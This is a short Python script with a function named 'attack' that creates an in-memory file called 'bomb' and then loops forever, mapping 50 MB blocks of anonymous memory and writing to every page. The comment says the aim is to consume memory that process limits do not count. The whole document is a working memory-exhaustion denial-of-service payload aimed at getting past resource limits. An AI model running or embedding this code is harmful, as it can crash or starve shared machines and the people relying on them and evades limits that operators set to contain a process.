# Takes memory that no limit of a process counts: shared mappings and files in memory.
import mmap, os
def attack():
    held = []
    try:
        fd = os.memfd_create("bomb")
        print("LOOT a file in memory")
    except OSError:
        pass
    while True:
        held.append(mmap.mmap(-1, 50_000_000))
        for page in range(0, 50_000_000, 4096):
            held[-1][page] = 1
